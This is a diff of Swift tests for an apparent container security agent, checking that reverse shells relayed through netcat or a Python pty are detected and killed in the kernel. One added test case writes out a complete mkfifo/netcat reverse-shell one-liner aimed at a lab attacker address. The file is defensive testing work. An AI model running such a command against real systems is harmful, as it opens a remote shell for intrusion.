@@ -118,30 +118,60 @@ struct ProcessDetectionTests {
     }
 
     /// A shell whose stdio is pipes or a pty relayed by a connected process
-    /// of the pod: found when the relay connects (mkfifo) or when the shell
-    /// execs (pty.spawn), and the shell is killed by the agent.
-    @Test(arguments: ["mkfifo", "pty"])
-    func aRelayedShellIsFoundAndKilled(technique: String) throws {
+    /// of the pod, decided in the kernel at whichever comes second: the
+    /// shell's exec (pty.spawn: python connected first; the shell is killed
+    /// at exec) or the relay's connect (mkfifo: nc may connect before or
+    /// after sh execs; then nc is killed before its connection exists).
+    @Test(arguments: ["mkfifo", "mkfifo, shell last", "pty"])
+    func aRelayedShellIsKilledInTheKernel(technique: String) throws {
         let scenario = try Scenario()
-        let attacker = "\(scenario.attacker.ipv4)/\(Self.port)"
-        // The pty relay: python pumps the connection to a pty itself, with no dup2 of the socket.
+        let (address, port) = (scenario.attacker.ipv4, Self.port)
         let command =
-            technique == "mkfifo"
-            ? ReverseShells.mkfifoNetcat(scenario.attacker.ipv4, Self.port)
-            : ReverseShells.pythonPTYRelay(scenario.attacker.ipv4, Self.port, shell: "bash")
+            switch technique {
+            case "mkfifo": ReverseShells.mkfifoNetcat(address, port)
+            // nc connects first: the shell is judged at its exec.
+            case "mkfifo, shell last":
+                ["sh", "-c", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | (sleep 0.5; exec sh -i) 2>&1 | nc \(address) \(port) > /tmp/f"]
+            default: ReverseShells.pythonPTYRelay(address, port, shell: "bash")
+            }
         try scenario.env.lab.spawn(in: scenario.container, command)
         let alert = try scenario.waitForAlert(kind: "reverse_shell")
         let evidence = try #require(alert["evidence"] as? [String: Any])
         #expect(evidence["technique"] as? String == "relayed_stdio", "\(evidence)")
-        #expect(evidence["relay"] as? String == (technique == "mkfifo" ? "nc" : "python3"))
-        #expect(evidence["remote"] as? String == scenario.attacker.ipv4, "\(attacker)")
+        #expect(evidence["relay"] as? String == (technique == "pty" ? "python3" : "nc"))
+        #expect(evidence["remote"] as? String == scenario.attacker.ipv4, "\(evidence)")
+        let killedAtExec = evidence["killed_at_exec"] as? Bool == true
+        let relayKilled = evidence["relay_killed"] as? Bool == true
+        if technique != "mkfifo" {
+            #expect(killedAtExec, "the relay connected before the shell's exec: \(evidence)")
+        } else {
+            #expect(killedAtExec || relayKilled, "the shell at its exec or nc at its connect: \(evidence)")
+        }
         let process = try #require((alert["source"] as? [String: Any])?["process"] as? [String: Any])
-        #expect(process["comm"] as? String == (technique == "mkfifo" ? "sh" : "bash"))
+        #expect(process["comm"] as? String == (technique == "pty" ? "bash" : "sh"))
         let actions = try #require(alert["actions"] as? [[String: Any]])
-        let kill = try #require(actions.first { $0["type"] as? String == "kill" }, "\(actions)")
-        #expect(kill["at_exec"] as? Bool == false, "killed by the agent: the shell was already running")
-        let pid = try #require(kill["pid"] as? Int)
+        let kill = actions.first { $0["type"] as? String == "kill" }
+        if relayKilled {
+            // Its relay gone, the shell dies of SIGPIPE at its first prompt, often before the agent's kill.
+        } else {
+            #expect(kill?["at_exec"] as? Bool == true, "\(alert)")
+        }
+        let pid = try #require(process["pid"] as? Int)
         #expect(waitUntil(timeout: 2) { kill_pid_gone(pid) } != nil, "the shell is dead")
+    }
+
+    /// Processes of a container share its stdout; one that connected out is
+    /// not the relay of a shell that writes to the same pipe.
+    @Test func aShellWritingTheSamePipeAsAConnectedProcessIsNotRelayed() throws {
+        let scenario = try Scenario()
+        let attacker = "\(scenario.attacker.ipv4) \(Self.port)"
+        try scenario.env.lab.exec(
+            in: scenario.container, ["sh", "-c", "{ nc -z -w 2 \(attacker); echo 'touch /shared/ran' | sh -i; } 2>/dev/null | cat"],
+            check: false)
+        _ = try scenario.waitForAlert(kind: "network_tool")
+        Thread.sleep(forTimeInterval: 0.5)
+        #expect(scenario.alerts(kind: "reverse_shell").isEmpty, "\(scenario.alerts(kind: "reverse_shell"))")
+        #expect(FileManager.default.fileExists(atPath: scenario.container.sharedDirectory + "/ran"), "the shell ran")
     }
 
     @Test func aServiceRunningCommandsWhileConnectedIsNotAReverseShell() throws {
